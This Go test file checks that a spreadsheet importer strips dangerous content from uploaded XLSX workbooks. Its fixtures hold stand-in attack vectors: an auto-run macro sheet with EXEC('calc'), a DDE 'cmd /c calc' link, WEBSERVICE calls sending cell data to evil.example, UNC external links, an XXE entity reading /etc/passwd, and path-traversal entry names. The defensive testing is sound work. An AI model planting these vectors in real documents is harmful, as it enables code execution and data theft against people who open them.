package outcome

import (
	"bytes"
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"hgeimport/importer/importertest/libreoffice"
	"hgeimport/importer/sheet"
	"hgeimport/mapping/reason"
)

const (
	microsoftRels = "http://schemas.microsoft.com/office/2006/relationships"
	drawingRoot   = `<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" ` +
		`xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="` + officeRels + `">`
	evil = "http://evil.example/"
)

// rel is a Relationship element. A kind with a colon is whole; a target that begins with ^ is external.
func rel(id, kind, target string) string {
	if !strings.Contains(kind, ":") {
		kind = officeRels + "/" + kind
	}
	mode := ""
	if rest, ok := strings.CutPrefix(target, "^"); ok {
		target, mode = rest, ` TargetMode="External"`
	}
	return fmt.Sprintf(`<Relationship Id="%s" Type="%s" Target="%s"%s/>`, id, kind, escaped(target), mode)
}

func rels(all ...string) string { return relsStart + strings.Join(all, "") + `</Relationships>` }

// hostileParts is a workbook with one of everything that runs or fetches something.
func hostileParts() map[string]string {
	anchor := func(row int, inside string) string {
		return fmt.Sprintf(`<xdr:twoCellAnchor><xdr:from><xdr:col>20</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>%d</xdr:row>`+
			`<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>21</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>%d</xdr:row>`+
			`<xdr:rowOff>0</xdr:rowOff></xdr:to>%s<xdr:clientData/></xdr:twoCellAnchor>`, row, row+1, inside)
	}
	shape := func(attributes, link string) string {
		return `<xdr:sp ` + attributes + `><xdr:nvSpPr><xdr:cNvPr id="2" name="s">` + link + `</xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr>` +
			`<xdr:spPr/></xdr:sp>`
	}
	picture := func(blip string) string {
		return `<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="3" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill>` + blip +
			`<a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr/></xdr:pic>`
	}
	override := func(part, kind string) string {
		return `<Override PartName="/` + part + `" ContentType="` + kind + `"/>`
	}
	const ss, ml = "application/vnd.openxmlformats-officedocument.spreadsheetml.", "application/vnd.ms-excel."
	return map[string]string{
		contentTypes: typesXML(`<Default Extension="bin" ContentType="application/octet-stream"/>` +
			`<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>` +
			`<Default Extension="png" ContentType="image/png"/>` +
			override("xl/workbook.xml", ml+"sheet.macroEnabled.main+xml") + override("xl/worksheets/sheet1.xml", ss+"worksheet+xml") +
			override("xl/worksheets/sheet2.xml", ss+"worksheet+xml") + override("xl/macrosheets/sheet1.xml", ml+"macrosheet+xml") +
			override("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject") + override("xl/calcChain.xml", ss+"calcChain+xml") +
			override("xl/externalLinks/externalLink1.xml", ss+"externalLink+xml") +
			override("xl/externalLinks/externalLink2.xml", ss+"externalLink+xml") + override("xl/connections.xml", ss+"connections+xml") +
			override("xl/queryTables/queryTable1.xml", ss+"queryTable+xml") + override("xl/tables/table1.xml", ss+"table+xml") +
			override("xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml") +
			override("xl/charts/chart1.xml", "application/vnd.openxmlformats-officedocument.drawingml.chart+xml") +
			override("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml") +
			override("xl/volatileDependencies.xml", ss+"volatileDependencies+xml")),
		"_rels/.rels": rels(rel("rId1", "officeDocument", "xl/workbook.xml"),
			rel("rId2", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml"),
			rel("rId3", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "xl/webextensions/taskpanes.xml")),
		"customUI/customUI14.xml":        `<customUI onLoad="Run"/>`,
		"xl/webextensions/taskpanes.xml": `<taskpanes/>`,
		"xl/workbook.xml": workbookXML(`<functionGroups><functionGroup name="x"/></functionGroups>` +
			`<sheets><sheet name="Macro1" sheetId="9" state="hidden" r:id="rId9"/><sheet name="orders" sheetId="1" r:id="rId1"/>` +
			`<sheet name="lists" sheetId="2" r:id="rId2"/></sheets>` +
			`<externalReferences><externalReference r:id="rId3"/><externalReference r:id="rId4"/></externalReferences>` +
			`<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>` +
			`<definedName name="_xlnm.Print_Area" localSheetId="1">orders!$A$1:$B$3</definedName>` +
			`<definedName name="_xlnm.Print_Area" localSheetId="2">lists!$A$1:$B$3</definedName>` +
			`<definedName name="byOther">outside+1</definedName>` +
			`<definedName name="outside">[1]Prices!$A$1</definedName><definedName name="Rate">orders!$B$2</definedName>` +
			`<definedName name="sheets">GET.WORKBOOK(1)</definedName><definedName name="macro" vbProcedure="1">x</definedName>` +
			`</definedNames><calcPr calcId="1"/>`),
		"xl/_rels/workbook.xml.rels": rels(rel("rId1", "worksheet", "worksheets/sheet1.xml"), rel("rId2", "worksheet",
			"worksheets/sheet2.xml"),
			rel("rId3", "externalLink", "externalLinks/externalLink1.xml"), rel("rId4", "externalLink", "externalLinks/externalLink2.xml"),
			rel("rId5", "connections", "connections.xml"), rel("rId6", microsoftRels+"/vbaProject", "vbaProject.bin"),
			rel("rId7", "calcChain", "calcChain.xml"), rel("rId8", "customXml", "../customXml/item1.xml"),
			rel("rId9", microsoftRels+"/xlMacrosheet", "macrosheets/sheet1.xml"),
			rel("rId10", "volatileDependencies", "volatileDependencies.xml")),
		"xl/vbaProject.bin":           "\xD0\xCF macros",
		"xl/calcChain.xml":            `<calcChain xmlns="` + transitionalMain + `"><c r="C2" i="1"/></calcChain>`,
		"xl/volatileDependencies.xml": `<volTypes xmlns="` + transitionalMain + `"/>`,
		"xl/macrosheets/sheet1.xml": `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="` +
			transitionalMain + `"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>`,
		"xl/externalLinks/externalLink1.xml": `<externalLink xmlns="` + transitionalMain + `"><externalBook xmlns:r="` + officeRels +
			`" r:id="rId1"><sheetNames><sheetName val="Prices"/></sheetNames></externalBook></externalLink>`,
		"xl/externalLinks/_rels/externalLink1.xml.rels": rels(rel("rId1", "externalLinkPath", "^file:///\\\\evil\\share\\p.xlsx")),
		"xl/externalLinks/externalLink2.xml": `<externalLink xmlns="` + transitionalMain +
			`"><ddeLink ddeService="cmd" ddeTopic="/c calc">` +
			`<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`,
		"xl/connections.xml": `<connections xmlns="` + transitionalMain + `"><connection id="1" name="c" type="4" refreshOnLoad="1">` +
			`<webPr url="` + evil + `"/></connection></connections>`,
		"customXml/item1.xml": "\xFF\xFE<\x00D\x00a\x00t\x00a\x00M\x00a\x00s\x00h\x00u\x00p\x00/\x00>\x00",
		"xl/worksheets/sheet1.xml": `<worksheet xmlns="` + transitionalMain + `" xmlns:r="` + officeRels + `">` +
			`<sheetData><row r="1">` + inline("A1", "order_num") + inline("B1", "weight") + inline("C1", "price") + `</row>` +
			`<row r="2">` + inline("A2", "HGE1") + `<c r="B2"><v>1</v></c><c r="C2" cm="1"><f>[1]Prices!A1*B2</f><v>7.5</v></c>` +
			`<c r="D2"><f t="shared" ref="D2:D3" si="0">MyMacro(B2)</f><v>3</v></c><c r="E2"><f>B2*Rate</f><v>1</v></c></row>` +
			`<row r="3">` + inline("A3", "HGE2") + `<c r="B3"><v>2</v></c><c r="C3" t="str"><f>cmd|'/c calc'!A0</f><v>ok</v></c>` +
			`<c r="D3"><f t="shared" si="0"/><v>4</v></c><c r="E3"><f>byOther</f></c></row></sheetData>` +
			`<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>[1]Prices!A1</formula></cfRule>` +
			`</conditionalFormatting><conditionalFormatting sqref="A2"><cfRule type="expression" priority="2"><formula>B2&gt;1</formula>` +
			`</cfRule></conditionalFormatting>` +
			`<dataValidations count="1"><dataValidation type="list" sqref="B2"><formula1>[1]Prices!A1:A9</formula1></dataValidation>` +
			`</dataValidations><hyperlinks><hyperlink ref="A2" r:id="rId4"/></hyperlinks>` +
			`<drawing r:id="rId1"/><legacyDrawing r:id="rId2"/>` +
			`<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId5"/></oleObjects>` +
			`<controls><control shapeId="1026" r:id="rId6" name="b"/></controls>` +
			`<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" ` +
			`destinationFile="C:\x.htm" autoRepublish="1"/>` +
			`</webPublishItems><tableParts count="1"><tablePart r:id="rId3"/></tableParts>` +
			`<extLst><ext uri="{1}"><sparkline><f>[1]Prices!A1</f></sparkline></ext>` +
			`<ext uri="{2}"><f>orders!A1</f></ext></extLst></worksheet>`,
		"xl/worksheets/_rels/sheet1.xml.rels": rels(rel("rId1", "drawing", "../drawings/drawing1.xml"),
			rel("rId2", "vmlDrawing", "../drawings/vmlDrawing1.vml"), rel("rId3", "table", "../tables/table1.xml"),
			rel("rId4", "hyperlink", "^https://carrier.example/HGE1"), rel("rId5", "oleObject", "../embeddings/oleObject1.bin"),
			rel("rId6", "control", "../activeX/activeX1.xml"), rel("rId7", "image", "^"+evil+"background.png")),
		"xl/embeddings/oleObject1.bin": "an embedded program",
		"xl/activeX/activeX1.xml":      `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>`,
		"xl/activeX/_rels/activeX1.xml.rels": rels(rel("rId1", microsoftRels+"/activeXControlBinary",
			"activeX1.bin")),
		"xl/activeX/activeX1.bin": "a control",
		"xl/tables/table1.xml": `<table xmlns="` + transitionalMain +
			`" id="1" name="T" displayName="T" ref="J1:K3" tableType="queryTable">` +
			`<autoFilter ref="J1:K3"/><tableColumns count="2"><tableColumn id="1" name="a" queryTableFieldId="1" uniqueName="1"/>` +
			`<tableColumn id="2" name="b"><calculatedColumnFormula>WEBSERVICE("` + evil + `")</calculatedColumnFormula></tableColumn>` +
			`</tableColumns></table>`,
		"xl/tables/_rels/table1.xml.rels": rels(rel("rId1", "queryTable", "../queryTables/queryTable1.xml")),
		"xl/queryTables/queryTable1.xml":  `<queryTable xmlns="` + transitionalMain + `" name="q" connectionId="1"/>`,
		"xl/drawings/drawing1.xml": drawingRoot +
			anchor(1, shape(`macro="[0]!Evil" textlink="[1]Prices!A1"`, `<a:hlinkClick r:id="rId1"/>`)) +
			anchor(2, picture(`<a:blip r:embed="rId2" r:link="rId3"/>`)) + anchor(3, picture(`<a:blip r:link="rId1"/>`)) +
			anchor(4, `<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="5" name="c"/><xdr:cNvGraphicFramePr/>`+
				`</xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData `+
				`uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart `+
				`xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rId4"/>`+
				`</a:graphicData></a:graphic></xdr:graphicFrame>`) +
			anchor(5, `<xdr:sp macro=""><a:videoFile r:link="rId5"/></xdr:sp>`) + `</xdr:wsDr>`,
		"xl/drawings/_rels/drawing1.xml.rels": rels(rel("rId1", "hyperlink", "^https://carrier.example/"), rel("rId2", "image",
			"../media/image1.png"),
			rel("rId3", "image", "^"+evil+"pixel.png"), rel("rId4", "chart", "../charts/chart1.xml"), rel("rId5", "video",
				"^"+evil+"v.mp4")),
		"xl/media/image1.png": "\x89PNG\r\n\x1a\n",
		"xl/charts/chart1.xml": `<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="` +
			officeRels + `"><c:chart>` +
			`<c:plotArea><c:layout/><c:barChart><c:barDir val="col"/><c:ser><c:idx val="0"/><c:order val="0"/><c:val><c:numRef>` +
			`<c:f>[1]Prices!$A$1:$A$3</c:f><c:numCache><c:ptCount val="1"/><c:pt idx="0"><c:v>1</c:v></c:pt></c:numCache>` +
			`</c:numRef></c:val>` +
			`</c:ser><c:axId val="1"/><c:axId val="2"/></c:barChart><c:catAx><c:axId val="1"/><c:crossAx val="2"/></c:catAx>` +
			`<c:valAx><c:axId val="2"/><c:crossAx val="1"/></c:valAx></c:plotArea></c:chart>` +
			`<c:externalData r:id="rId1"><c:autoUpdate val="1"/></c:externalData></c:chartSpace>`,
		"xl/charts/_rels/chart1.xml.rels": rels(rel("rId1", "oleObject", "^file:///\\\\evil\\share\\data.xlsx")),
		"xl/drawings/vmlDrawing1.vml": `<xml xmlns:v="urn:schemas-microsoft-com:vml" ` +
			`xmlns:o="urn:schemas-microsoft-com:office:office" ` +
			`xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" href="` + evil + `"><v:imagedata src="` + evil +
			`i.png" o:title="x"/><v:formulas><v:f eqn="if 1 2 3"/></v:formulas><x:ClientData ObjectType="Button">` +
			`<x:FmlaMacro>[0]!Evil</x:FmlaMacro><x:FmlaLink>$B$2</x:FmlaLink><br></x:ClientData></v:shape></xml>`,
		"xl/worksheets/sheet2.xml": sheetXML(`<sheetData><row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("` + evil +
			`"&amp;orders!A2)</f></c>` +
			`<c r="B1"><f>orders!B2</f><v>1</v></c></row></sheetData>`),
		"../../evil.exe": "MZ", `C:\Windows\evil.dll`: "MZ", "/etc/cron.d/evil": "* * * * *", `xl\..\..\x`: "x", "unused.xml": "<x/>",
	}
}

func TestOutcomeRunsAndFetchesNothing(t *testing.T) {
	t.Parallel()
	source := rawWorkbook(t, "", hostileParts())
	s := someSummary()
	var left []reason.Reason
	s.LeftOut = func(reasons []reason.Reason) SummarySection {
		left = reasons
		return SummarySection{Heading: "not taken over", Rows: [][]SummaryCell{{{Text: "everything"}}}}
	}
	out := outcomeWith(t, source, s, []TableHeader{{0, 1, 5, nil, nil, nil}}, answersTo(0, 2, 3)...)
	all := checkExcelRules(t, out)
	want := []string{"_rels/.rels", contentTypes, "xl/_rels/workbook.xml.rels", "xl/charts/chart1.xml",
		"xl/drawings/_rels/drawing1.xml.rels", "xl/drawings/drawing1.xml", "xl/drawings/vmlDrawing1.vml", "xl/media/image1.png",
		"xl/styles.xml", "xl/tables/table1.xml", "xl/workbook.xml", "xl/worksheets/_rels/sheet1.xml.rels",
		"xl/worksheets/_rels/sheet3.xml.rels", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"}
	var got []string
	for name, content := range all {
		if strings.HasSuffix(name, ".rels") && !bytes.Contains(content, []byte("<Relationship ")) {
			continue
		}
		got = append(got, name)
	}
	slices.Sort(got)
	slices.Sort(want)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("parts (-want +got):\n%s", diff)
	}
	for name, content := range all {
		for _, word := range []string{"evil", "[1]", "cmd|", "/c calc", "WEBSERVICE", "MyMacro", "vbaProject", "macroEnabled",
			"externalRef",
			"Auto_Open", "GET.WORKBOOK", "queryTable", "<control", "oleObject", "webPublish", "functionGroup", "FmlaMacro",
			"autoUpdate", "r:link"} {
			if bytes.Contains(content, []byte(word)) {
				t.Errorf("%s has %q:\n%s", name, word, content)
			}
		}
	}
	count := func(code reason.Code) int {
		i := slices.IndexFunc(left, func(r reason.Reason) bool { return r.Code == code })
		if i < 0 {
			return 0
		}
		n := 0
		fmt.Sscan(left[i].Args[0], &n)
		return n
	}
	counts := map[reason.Code]int{}
	for _, r := range left {
		counts[r.Code] = count(r.Code)
	}
	wantCounts := map[reason.Code]int{reason.LeftMacros: 2, reason.LeftLinks: 3, reason.LeftConnections: 3, reason.LeftObjects: 3,
		reason.LeftAddIns: 2, reason.LeftFetched: 3 + 3, reason.LeftParts: 5, reason.LeftFormulas: 6 + 5}
	if diff := cmp.Diff(wantCounts, counts); diff != "" {
		t.Errorf("left out (-want +got):\n%s", diff)
	}
	if first := left[len(left)-1].Cell; first != "orders!C2" {
		t.Errorf("the first formula is in %s", first)
	}
	checkHostileSheet(t, all)
	opensEverywhere(t, out)
	if cells := grid(t, out, summaryName); !slices.Contains(slices.Collect(maps.Values(cells)), "not taken over") {
		t.Error("the Summary does not say what was left out")
	}
	// What comes back from the user is an ordinary workbook.
	left = nil
	again := outcomeWith(t, out, s, []TableHeader{{1, 1, 5, nil, nil, nil}}, answersTo(1, 2, 3)...)
	checkExcelRules(t, again)
	if left != nil {
		t.Errorf("left out of an outcome: %+v", left)
	}
}

// checkHostileSheet looks at what stays of the table and of what lies on it.
func checkHostileSheet(t *testing.T, all map[string][]byte) {
	t.Helper()
	sheet := parse(t, "orders", all["xl/worksheets/sheet1.xml"])
	formulas, values := map[string]string{}, map[string]string{}
	for _, row := range sheet.kid("sheetData").Kids {
		for _, c := range row.Kids {
			if f := c.kid("f"); f.XMLName.Local != "" {
				formulas[c.attr("r")] = f.Text
			}
			values[c.attr("r")] = c.kid("v").Text + " " + c.attr("t") + c.attr("cm")
		}
	}
	if diff := cmp.Diff(map[string]string{"E2": "B2*Rate"}, formulas); diff != "" {
		t.Errorf("formulas (-want +got):\n%s", diff)
	}
	for at, want := range map[string]string{"C2": "7.5 ", "C3": "ok str", "D2": "3 ", "D3": "4 ", "E3": "#REF! e"} {
		if values[at] != want {
			t.Errorf("%s is %q, want %q", at, values[at], want)
		}
	}
	for name, want := range map[string]string{"conditionalFormatting": "A2", "dataValidations": "", "controls": "",
		"oleObjects": ""} {
		if got := sheet.kid(name); got.attr("sqref") != want {
			t.Errorf("%s: %+v", name, got)
		}
	}
	if links := sheet.kid("hyperlinks").Kids; len(links) < 1 || !bytes.Contains(all["xl/worksheets/_rels/sheet1.xml.rels"],
		[]byte("https://carrier.example/HGE1")) {
		t.Errorf("the user's link is gone: %+v", links)
	}
	if len(sheet.kid("extLst").Kids) != 1 {
		t.Errorf("extLst %+v", sheet.kid("extLst"))
	}
	drawing := string(all["xl/drawings/drawing1.xml"])
	if strings.Count(drawing, "<xdr:twoCellAnchor>") != 4 || !strings.Contains(drawing, `<a:hlinkClick r:id="rId1"/>`) ||
		!strings.Contains(drawing, `<a:blip r:embed="rId2"/>`) || !strings.Contains(drawing, `<a:blip/>`) {
		t.Errorf("drawing: %s", drawing)
	}
	if chart := string(all["xl/charts/chart1.xml"]); !strings.Contains(chart, "<c:f>#REF!</c:f><c:numCache>") {
		t.Errorf("chart: %s", chart)
	}
	if vml := string(all["xl/drawings/vmlDrawing1.vml"]); !strings.Contains(vml, `<v:f eqn="if 1 2 3"/>`) ||
		!strings.Contains(vml, "<x:FmlaLink>$B$2</x:FmlaLink><br>") {
		t.Errorf("vml: %s", vml)
	}
	names := parse(t, "names", all["xl/workbook.xml"]).kid("definedNames").Kids
	var got []string
	for _, n := range names {
		got = append(got, n.attr("name")+" "+n.attr("localSheetId"))
	}
	want := []string{"_xlnm.Print_Area 1", "_xlnm.Print_Area 2", "Rate "}
	if !slices.Equal(got, want) {
		t.Errorf("names %q", got)
	}
	if types := string(all[contentTypes]); !strings.Contains(types, `PartName="/xl/workbook.xml" ContentType="`+workbookType+`"`) {
		t.Errorf("types: %s", types)
	}
}

// opensEverywhere opens a workbook with excelize and with LibreOffice.
func opensEverywhere(t *testing.T, file string) {
	t.Helper()
	for _, path := range []string{file, libreoffice.Save(t, file, "xlsx")} {
		f, err := excelize.OpenFile(path)
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range f.GetSheetList() {
			if _, err := f.GetRows(name); err != nil {
				t.Errorf("%s: %v", name, err)
			}
		}
		f.Close()
	}
}

// TestOutcomeOfRealFileWithLinks is about a real workbook with a link to another one.
func TestOutcomeOfRealFileWithLinks(t *testing.T) {
	t.Parallel()
	source := realFile(t, "poi__stress020.xlsx")
	s := someSummary()
	var left []reason.Reason
	s.LeftOut = func(reasons []reason.Reason) SummarySection {
		left = reasons
		return SummarySection{}
	}
	before := textsIn(t, source, 0)
	out := outcomeWith(t, source, s, []TableHeader{{0, 4, 6, nil, nil, nil}}, answersTo(0, 5, 40)...)
	all := checkExcelRules(t, out)
	for name, content := range all {
		if strings.Contains(name, "externalLink") || bytes.Contains(content, []byte("[1]")) || bytes.Contains(content,
			[]byte("externalReference")) {
			t.Errorf("%s: the link is still there", name)
		}
	}
	if len(left) != 2 || left[0].Code != reason.LeftLinks || left[1].Code != reason.LeftFormulas {
		t.Errorf("left out: %+v", left)
	}
	after := textsIn(t, out, 1)
	for at, text := range before {
		if after[at] != text {
			t.Errorf("%s was %q, is %q", at, text, after[at])
		}
	}
	opensEverywhere(t, out)
}

// TestOutcomeOfDamagedParts has parts that nobody reads before they are copied: one whose check sum is wrong, one that declares
// entities. The outcome is then a workbook of the cells' texts, and says so.
func TestOutcomeOfDamagedParts(t *testing.T) {
	for name, more := range map[string]map[string]string{
		"entities": {"xl/theme/theme1.xml": `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`},
		"in a drawing": {"xl/_rels/workbook.xml.rels": relationsXML("worksheet worksheets/sheet1.xml", "drawing theme/theme1.xml"),
			"xl/theme/theme1.xml": `<!DOCTYPE x [<!ENTITY e "[1]x!A1">]><x><f>&e;</f></x>`},
		"damaged": {"xl/theme/theme1.xml": "<damaged content of a part/>"},
	} {
		t.Run(name, func(t *testing.T) {
			parts := map[string]string{"xl/_rels/workbook.xml.rels": relationsXML("worksheet worksheets/sheet1.xml",
				"theme theme/theme1.xml")}
			maps.Copy(parts, more)
			source := rawWorkbook(t, ordersData("", ""), parts)
			if name == "damaged" {
				raw := must(os.ReadFile(source))
				at := bytes.LastIndex(raw, []byte("xl/theme/theme1.xml")) - 46
				header := bytes.Index(raw, []byte("xl/theme/theme1.xml"))
				raw[header+len("xl/theme/theme1.xml")+5] ^= 0x55
				if at < 0 {
					t.Fatal("no entry")
				}
				if err := os.WriteFile(source, raw, 0o600); err != nil {
					t.Fatal(err)
				}
			}
			s := someSummary()
			var left []reason.Reason
			s.LeftOut = func(reasons []reason.Reason) SummarySection {
				left = reasons
				return SummarySection{}
			}
			out := outcomeWith(t, source, s, []TableHeader{{0, 1, 2, nil, nil, nil}}, answersTo(0, 2, 3)...)
			all := checkExcelRules(t, out)
			if all["xl/theme/theme1.xml"] != nil && bytes.Contains(all["xl/theme/theme1.xml"], []byte("DOCTYPE")) {
				t.Error("the part was copied")
			}
			if len(left) != 1 || left[0].Code != reason.LeftAll {
				t.Errorf("left out: %+v", left)
			}
			wantAnswers(t, textsIn(t, source, 0), grid(t, out, "orders"), 1, 2, answersTo(0, 2, 3))
		})
	}
}

// TestOutcomeOfTextShownOften has one text that 200,000 cells show: written anew for each of them it would be 6 GB.
func TestOutcomeOfTextShownOften(t *testing.T) {
	t.Parallel()
	var rows strings.Builder
	rows.WriteString(`<row r="1">` + inline("A1", "order_num") + `</row>`)
	for row := 2; row <= 200_000; row++ {
		fmt.Fprintf(&rows, `<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>`, row, row)
	}
	source := rawWorkbook(t, `<sheetData>`+rows.String()+`</sheetData>`, map[string]string{
		"xl/sharedStrings.xml": `<sst xmlns="` + transitionalMain + `"><si><t>` + strings.Repeat("x", 32_000) + `</t></si></sst>`,
		"xl/theme/theme1.xml":  `<!DOCTYPE x><x/>`, // so that nothing can be added to it
		"xl/_rels/workbook.xml.rels": relationsXML("worksheet worksheets/sheet1.xml", "sharedStrings sharedStrings.xml",
			"theme theme/theme1.xml")})
	b := must(sheet.Open(source, sheet.Options{}))
	defer b.Close()
	out := filepath.Join(t.TempDir(), "x.xlsx")
	err := Write(t.Context(), out, b, []TableHeader{{0, 1, 1, nil, nil, nil}}, each(answersTo(0, 2, 3)...), someSummary())
	if !errors.Is(err, ErrNoRoom) {
		t.Errorf("error %v", err)
	}
	if _, err := os.Stat(out); err == nil {
		t.Error("an outcome appeared")
	}
}

func TestSafeNames(t *testing.T) {
	for name, want := range map[string]string{"xl/workbook.xml": "xl/workbook.xml", `xl\workbook.xml`: "xl/workbook.xml",
		"/xl/a.xml": "xl/a.xml", "[Content_Types].xml": "[Content_Types].xml", "xl/media/图 1.png": "xl/media/图 1.png",
		"../x": "", "xl/../../x": "", `xl\..\x`: "", "C:/x": "", `C:\x`: "", "c:x": "", "//host/x": "", `\\host\x`: "", "xl//x": "",
		"xl/": "",
		"":    "", "/": "", ".": "", "xl/./x": "", "xl/. ./x": "", "xl/... /x": "", "a\x00b": "", "a\nb": "", "a\x7fb": ""} {
		if got := safeName(name); got != want {
			t.Errorf("%q is %q, want %q", name, got, want)
		}
	}
}
